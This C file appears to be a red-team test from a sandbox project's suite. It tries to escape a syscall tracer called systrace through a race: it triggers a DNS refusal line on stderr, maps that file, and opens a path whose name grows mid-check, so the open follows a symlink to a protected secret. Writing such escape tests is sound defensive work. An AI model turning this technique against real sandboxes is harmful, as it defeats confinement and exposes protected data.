/* dns_tail.c NAME [TRIES]: open a path the program keeps in a clean page of a MAP_PRIVATE
 * mapping of its own stderr -- a regular file it may read, where systrace says with -v each
 * name its resolver refused, from the resolver's thread -- while that thread appends the
 * next line (red team 54).
 *
 * The program is one task, alone: its path arguments were not held (now they are while the
 * resolver runs: Supervisor.writes_beside).  It sends a query for NAME
 * (a name a host rule refuses: answered NXDOMAIN, and said "systrace: refused resolving NAME:
 * ... (NXDOMAIN)" on stderr by the resolver's thread), reads the line, and makes in its cwd
 * the names that the tail of that line spells (from NAME to the end of the line: a decoy
 * file) and that the tail and one more such line spell (a symlink to the secret, SECRET in
 * the environment as ESC_SECRET).  Then, TRIES times (default 300): map the file, send the
 * query without waiting and open the mapped tail at once.  If the thread's append lands
 * between the tracer's read of the path and the kernel's, the kernel opens the longer name:
 * the secret.  Natively nobody writes the line: the control appends it itself (NATIVE=1),
 * which shows the kernel opening the longer name once the page changed.
 * ESCAPED when an open gave the secret; BLOCKED otherwise.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <poll.h>

static int query_len(unsigned char *q, const char *name, unsigned short id) {
    int n = 0;
    q[n++] = id >> 8; q[n++] = id & 255;
    q[n++] = 1; q[n++] = 0;   /* RD */
    q[n++] = 0; q[n++] = 1;   /* QDCOUNT */
    memset(q + n, 0, 6); n += 6;
    const char *p = name;
    while (*p) {
        const char *dot = strchr(p, '.');
        size_t len = dot ? (size_t)(dot - p) : strlen(p);
        q[n++] = (unsigned char)len;
        memcpy(q + n, p, len); n += (int)len;
        p += len + (dot ? 1 : 0);
    }
    q[n++] = 0;
    q[n++] = 0; q[n++] = 1; q[n++] = 0; q[n++] = 1;
    return n;
}

static int make_path(const char *path, const char *target) {
    /* mkdir every component but the last; the last: a file (target NULL) or a symlink */
    char buf[4096];
    snprintf(buf, sizeof buf, "%s", path);
    for (char *s = strchr(buf, '/'); s; s = strchr(s + 1, '/')) {
        *s = 0;
        if (*buf) mkdir(buf, 0755);
        *s = '/';
    }
    if (target) {
        unlink(buf);
        return symlink(target, buf);
    }
    int fd = open(buf, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) return -1;
    write(fd, "public, harmless\n", 17);
    close(fd);
    return 0;
}

/* a call that stops (every open that can write does): where systrace writes what its resolver
 * reported, if it writes it on its own thread */
static void a_stop(void) {
    int fd = open("/dev/null", O_WRONLY | O_CLOEXEC);
    if (fd >= 0) close(fd);
}

static const char *server(void) {
    static char ns[64] = "127.0.0.53";
    FILE *f = fopen("/etc/resolv.conf", "r");
    char line[256];
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "nameserver %63s", ns) == 1) break;
    if (f) fclose(f);
    return ns;
}

int main(int argc, char **argv) {
    if (argc < 2) usage("dns_tail NAME [TRIES]");
    const char *name = argv[1];
    int tries = argc > 2 ? atoi(argv[2]) : 300;
    int native = getenv("NATIVE") != NULL;
    const char *secret = getenv("ESC_SECRET");
    if (!secret) blocked("no ESC_SECRET");
    struct stat st;
    if (fstat(2, &st) < 0 || !S_ISREG(st.st_mode)) skipped("stderr is no regular file");
    int log = open("/proc/self/fd/2", O_RDONLY | O_CLOEXEC);
    if (log < 0) blocked("open stderr: %s", ename(errno));
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, server(), &sa.sin_addr);
    if (connect(s, (struct sockaddr *)&sa, sizeof sa) < 0) blocked("connect: %s", ename(errno));
    unsigned char q[512], r[512];
    int qn = query_len(q, name, 0x1234);
    char line_tail[1024];  /* from NAME to the end of its line, "\n" included */
    if (native) {
        snprintf(line_tail, sizeof line_tail, "%s: rule 1 (policy.toml:2) -> no such name "
                 "(NXDOMAIN)\n", name);
        dprintf(2, "systrace: refused resolving %s", line_tail);
    } else {
        send(s, q, (size_t)qn, 0);
        struct pollfd p = {s, POLLIN, 0};
        if (poll(&p, 1, 3000) <= 0) blocked("no answer to the first query");
        recv(s, r, sizeof r, 0);
        usleep(100000);
        a_stop();
        char buf[65536];
        ssize_t got = pread(log, buf, sizeof buf - 1, 0);
        if (got <= 0) blocked("read stderr: %s", ename(errno));
        buf[got] = 0;
        char key[300];
        snprintf(key, sizeof key, "refused resolving %s", name);
        char *at = NULL;
        for (char *x = strstr(buf, key); x; x = strstr(x + 1, key)) at = x;
        if (!at) blocked("no refusal line on stderr");
        at += strlen("refused resolving ");
        char *end = strchr(at, '\n');
        if (!end) blocked("a line without its end");
        snprintf(line_tail, sizeof line_tail, "%.*s", (int)(end - at + 1), at);
    }
    char after[2048];
    snprintf(after, sizeof after, "%ssystrace: refused resolving %s", line_tail, line_tail);
    if (make_path(line_tail, NULL) < 0 || make_path(after, secret) < 0)
        blocked("making the names: %s", ename(errno));
    long decoy = 0, fails = 0, skips = 0;
    for (int i = 0; i < tries; i++) {
        if (fstat(log, &st) < 0) blocked("fstat: %s", ename(errno));
        size_t size = (size_t)st.st_size;
        if (size % 4096 == 0 || size < strlen(line_tail)) {
            skips++;
            dprintf(2, "x\n");  /* (one byte more: the tail's page then has room) */
            continue;
        }
        char *map = mmap(NULL, size, PROT_READ, MAP_PRIVATE, log, 0);
        if (map == MAP_FAILED) blocked("mmap: %s", ename(errno));
        const char *path = map + size - strlen(line_tail);
        if (memcmp(path, line_tail, strlen(line_tail)) != 0) {
            munmap(map, size);
            skips++;
            if (!native) {
                send(s, q, (size_t)qn, 0);
                struct pollfd p = {s, POLLIN, 0};
                if (poll(&p, 1, 3000) > 0) recv(s, r, sizeof r, 0);
                usleep(20000);
                a_stop();
            } else {
                dprintf(2, "systrace: refused resolving %s", line_tail);
            }
            continue;
        }
        if (native)
            dprintf(2, "systrace: refused resolving %s", line_tail);
        else
            send(s, q, (size_t)qn, 0);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            if (is_secret_fd(fd))
                escaped("the open of the mapped tail gave the secret (try %d)", i);
            decoy++;
            close(fd);
        } else {
            fails++;
        }
        munmap(map, size);
        if (!native) {
            struct pollfd p = {s, POLLIN, 0};
            if (poll(&p, 1, 3000) > 0) recv(s, r, sizeof r, 0);
            for (int k = 0; k < 200; k++) {  /* (until the line is there) */
                a_stop();
                struct stat now;
                fstat(log, &now);
                if ((size_t)now.st_size > size) break;
                usleep(500);
            }
        }
    }
    blocked("no open gave the secret (%ld decoy, %ld failed, %ld skipped)", decoy, fails, skips);
}
